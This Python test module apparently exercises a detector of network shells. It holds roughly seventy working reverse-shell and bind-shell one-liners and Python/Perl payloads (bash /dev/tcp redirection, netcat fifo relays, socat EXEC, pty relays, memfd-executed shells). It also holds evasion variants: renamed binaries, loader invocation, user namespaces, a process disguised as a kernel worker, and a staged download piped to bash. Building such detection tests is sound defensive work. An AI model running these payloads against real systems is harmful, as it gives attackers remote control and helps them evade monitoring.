"""Every technique of a network shell, once. Written for this test: shapes, not samples."""

from . import peers
from .case import Case, python, script

PIPED = "mkfifo in; {shell} <in 2>&1 | nc %H %P >in"
CONNECT = "import os,socket,subprocess\ns=socket.create_connection(('%H',%P))\n"
RELAY = CONNECT + """
import threading
p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
def down():
    while d:=s.recv(4096): p.stdin.write(d); p.stdin.flush()
threading.Thread(target=down,daemon=True).start()
while d:=p.stdout.read1(4096): s.sendall(d)
"""
PTY = CONNECT + """
import pty,select
child,master=pty.fork()
if child==0:
    s.close(); os.execv('/bin/bash',['bash','--norc','-i'])
while True:
    for r in select.select([s,master],[],[])[0]:
        if r is s: os.write(master,s.recv(4096))
        else: s.sendall(os.read(master,4096))
"""
PAIR = CONNECT + """
import select
mine,theirs=socket.socketpair()
subprocess.Popen(['/bin/sh'],stdin=theirs,stdout=theirs,stderr=theirs)
theirs.close()
while True:
    for r in select.select([s,mine],[],[])[0]:
        (mine if r is s else s).sendall(r.recv(4096))
"""
POPEN = CONNECT + """
for line in s.makefile('r'):
    s.sendall(subprocess.run(line,shell=True,stdout=subprocess.PIPE).stdout)
"""
POPEN_UDP = """
import socket,subprocess
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('%H',%P)); s.send(b'hi')
while True:
    s.send(subprocess.run(s.recv(4096),shell=True,stdout=subprocess.PIPE).stdout or b'-')
"""
MEMFD = CONNECT + """
f=os.memfd_create('cache',0)
os.write(f,open('/bin/dash','rb').read())
for n in 0,1,2: os.dup2(s.fileno(),n)
os.execv(f'/proc/self/fd/{f}',['worker'])
"""
MEMFD_BEHIND_PIPES = RELAY.replace("['/bin/sh']", "['/proc/self/fd/%d'%f],pass_fds=[f]").replace(
    "import threading\n", "import threading\nf=os.memfd_create('cache',0)\nos.write(f,open('/bin/dash','rb').read())\n")
DUP = "for n in 0,1,2: os.dup2(s.fileno(),n)\nos.execv('/bin/sh',['sh'])\n"
UDP = "import os,socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('%H',%P)); s.send(b'hi')\n"
ACCEPT = "import os,socket,subprocess\nl=socket.create_server(('%H',%P)); s,_=l.accept()\n"
LOADER = "$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null | head -1)"


def six():
    return peers.Attacker("::1")


def two():
    return peers.Attacker(count=2)


def stage():
    return peers.StageThenAttack("exec bash -i >& /dev/tcp/{H}/{P} 0>&1\n")


DIRECT = [
    Case("dev-tcp", "exec bash -i >& /dev/tcp/%H/%P 0>&1", stopped=True),
    Case("dev-tcp-child", "bash -i >& /dev/tcp/%H/%P 0>&1", stopped=True),
    Case("other-descriptor", "exec 9<>/dev/tcp/%H/%P; sh <&9 >&9 2>&9", stopped=True),
    Case("inherited-descriptor", "bash -c 'dash -i <&33 >&33 2>&33' 33<>/dev/tcp/%H/%P", stopped=True),
    Case("python-dup", python(CONNECT + DUP), stopped=True),
    Case("python-child", python(CONNECT + "subprocess.call(['/bin/sh'],stdin=s,stdout=s,stderr=s)"), stopped=True),
    Case("python-file", script(CONNECT + DUP), stopped=True),
    Case("python-ipv6", python(CONNECT + DUP), six, stopped=True),
    Case("dev-tcp-ipv6", "exec bash -i >& /dev/tcp/%H/%P 0>&1", six, stopped=True),
    Case("python-udp", python(UDP + DUP), peers.DatagramAttacker, stopped=True),
    Case("perl-exec", ["perl", "-MIO::Socket::INET", "-e",
                       "$s=IO::Socket::INET->new('%H:%P');open STDIN,'<&',$s;open STDOUT,'>&',$s;"
                       "open STDERR,'>&',$s;exec '/bin/sh','-i'"], stopped=True),
    Case("perl-daemon", ["perl", "-MPOSIX", "-MIO::Socket::INET", "-e",
                         "fork&&exit;setsid;fork&&exit;$0='[kworker/0:1]';$s=IO::Socket::INET->new('%H:%P');"
                         "open STDIN,'<&',$s;open STDOUT,'>&',$s;exec '/bin/sh'"], stopped=True),
    Case("perl-system-loop", ["perl", "-MIO::Socket::INET", "-e",
                              "$c=IO::Socket::INET->new('%H:%P');STDIN->fdopen($c,'r');STDOUT->fdopen($c,'w');"
                              "system $_ while <>"], stopped=True),
    Case("socat-nofork", "exec socat TCP:%H:%P EXEC:/bin/sh,nofork", needs=("socat",), stopped=True),
    Case("memfd-shell", python(MEMFD), stopped=True),
    Case("renamed-shell", "cp /bin/dash ./updater; exec 9<>/dev/tcp/%H/%P; exec ./updater <&9 >&9 2>&9", stopped=True),
    Case("loader", LOADER + " /bin/dash -i <>/dev/tcp/%H/%P >&0 2>&0", stopped=True),
    Case("own-namespaces", "exec unshare -Urpf bash -c 'exec bash -i >& /dev/tcp/%H/%P 0>&1'", stopped=True),
    Case("own-namespaces-deeper",
         "exec unshare -Urpf unshare -Urpf bash -c 'exec 9<>/dev/tcp/%H/%P; sh <&9 >&9 2>&9'", stopped=True),
]

RELAYED = [
    Case("nc-fifo", PIPED.format(shell="sh")),
    Case("nc-fifo-interactive", PIPED.format(shell="bash -i")),
    Case("nc-fifo-cat", "mkfifo f; cat f | sh -i 2>&1 | nc %H %P >f"),
    Case("nc-fifo-argument", PIPED.format(shell="sh -s worker")),
    Case("nc-two-fifos", "mkfifo i o; sh <i >o 2>&1 & exec nc %H %P >i <o"),
    Case("nc-two-relays", "mkfifo i o; cat <i | sh 2>&1 | cat >o & nc %H %P <o | cat >i"),
    Case("nc-coprocess", "coproc N { nc %H %P; }; sh <&${N[0]} >&${N[1]} 2>&1"),
    Case("nc-ipv6", "mkfifo in; sh <in 2>&1 | nc -6 %H %P >in", six),
    Case("nc-udp", "mkfifo in; (echo hi; sh <in 2>&1) | nc -u %H %P >in", peers.DatagramAttacker),
    Case("two-connections", "nc -d %H %P | sh 2>&1 | nc %H %Q", two),
    Case("socat-stdio", "mkfifo in; sh -i <in 2>&1 | socat - TCP:%H:%P >in", needs=("socat",)),
    Case("socat-exec", "exec socat TCP:%H:%P EXEC:/bin/sh,stderr", needs=("socat",)),
    Case("socat-pipes", "exec socat TCP:%H:%P EXEC:/bin/sh,pipes,stderr", needs=("socat",)),
    Case("socat-pty", "exec socat TCP:%H:%P EXEC:'bash -i',pty,stderr,setsid,sane", needs=("socat",)),
    Case("socat-ipv6", "exec socat TCP6:[%H]:%P EXEC:/bin/sh", six, needs=("socat",)),
    Case("socat-udp", "exec socat UDP:%H:%P SYSTEM:'echo hi; exec sh'", peers.DatagramAttacker, needs=("socat",)),
    Case("script-pty", "exec 9<>/dev/tcp/%H/%P; script -qfc 'bash -i' /dev/null <&9 >&9 2>&9", stopped=True),
    Case("python-pipes", python(RELAY)),
    Case("python-pty", python(PTY)),
    Case("python-unix-pair", python(PAIR)),
    Case("python-file-pipes", script(RELAY), certain=False),
    Case("python-many-descriptors", python("import os\nfor n in range(300): os.dup(0)\n" + RELAY)),
    Case("python-program-from-stdin", f"python3 <<'EOF'\n{RELAY}\nEOF"),
    Case("memfd-behind-pipes", python(MEMFD_BEHIND_PIPES)),
    Case("renamed-behind-pipes", "cp /bin/dash ./updater; " + PIPED.format(shell="./updater")),
    Case("renamed-seen-before", "cp /bin/dash ./updater; for n in 1 2 3 4 5; do ./updater -c :; done; sleep 0.2; "
         + PIPED.format(shell="./updater")),
    Case("renamed-relay", "cp $(readlink -f $(command -v nc)) ./cache; mkfifo in; sh <in 2>&1 | ./cache %H %P >in"),
    Case("loader-behind-pipes", PIPED.format(shell=LOADER + " /bin/dash")),
    Case("loader-options-behind-pipes", PIPED.format(shell=LOADER + " --inhibit-cache --argv0 worker /bin/dash")),
    Case("own-namespaces-behind-pipes", "exec unshare -Urpf bash -c '" + PIPED.format(shell="sh") + "'"),
    Case("staged", "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://%H:%P\").read().decode())' | bash",
         stage, stopped=True),
]

PER_COMMAND = [
    Case("python-popen", python(POPEN)),
    # The kernel side looks at 40 descriptors; beyond, only a look while the command still runs can be certain.
    Case("python-popen-many-descriptors", python("import os\nfor n in range(300): os.dup(0)\n" + POPEN), certain=False),
    Case("python-popen-udp", python(POPEN_UDP), peers.DatagramAttacker),
    Case("python-file-popen", script(POPEN), certain=False),
    Case("perl-backticks", ["perl", "-MIO::Socket::INET", "-e",
                            "$s=IO::Socket::INET->new('%H:%P');while(<$s>){print $s `$_`}"]),
    Case("line-loop", "exec 5<>/dev/tcp/%H/%P; while read -r line <&5; do $line >&5 2>&5; done"),
    Case("line-loop-pipe", "exec 5<>/dev/tcp/%H/%P; cat <&5 | while read -r line; do $line >&5 2>&5; done"),
    Case("line-loop-stdio", "exec <>/dev/tcp/%H/%P >&0 2>&0; while read -r line; do $line; done", stopped=True),
]

BIND = [
    Case("bind-nc-fifo", "mkfifo in; sh -i <in 2>&1 | nc -l %H %P >in", peers.BindAttacker, "bind-shell"),
    Case("bind-socat", "exec socat TCP-LISTEN:%P,bind=%H,reuseaddr EXEC:/bin/sh", peers.BindAttacker, "bind-shell",
         needs=("socat",)),
    Case("bind-socat-pty", "exec socat TCP-LISTEN:%P,bind=%H,reuseaddr,fork EXEC:'bash -i',pty,setsid,stderr",
         peers.BindAttacker, "bind-shell", needs=("socat",)),
    Case("bind-socat-nofork", "exec socat TCP-LISTEN:%P,bind=%H,reuseaddr EXEC:/bin/sh,nofork", peers.BindAttacker,
         "bind-shell", needs=("socat",)),
    Case("bind-python", python(ACCEPT + DUP), peers.BindAttacker, "bind-shell"),
    Case("bind-python-child", script(ACCEPT + "subprocess.call(['/bin/sh'],stdin=s,stdout=s,stderr=s)"),
         peers.BindAttacker, "bind-shell"),
    Case("bind-python-popen", python(POPEN.replace(CONNECT, ACCEPT)), peers.BindAttacker, "bind-shell"),
    Case("bind-ipv6", python(ACCEPT.replace("create_server(('%H',%P))",
                                            "create_server(('%H',%P),family=socket.AF_INET6)") + DUP),
         lambda: peers.BindAttacker("::1"), "bind-shell"),
    Case("bind-own-namespaces", ["unshare", "-Urpf", "python3", "-c", ACCEPT + DUP], peers.BindAttacker, "bind-shell"),
]

ATTACKS = DIRECT + RELAYED + PER_COMMAND + BIND
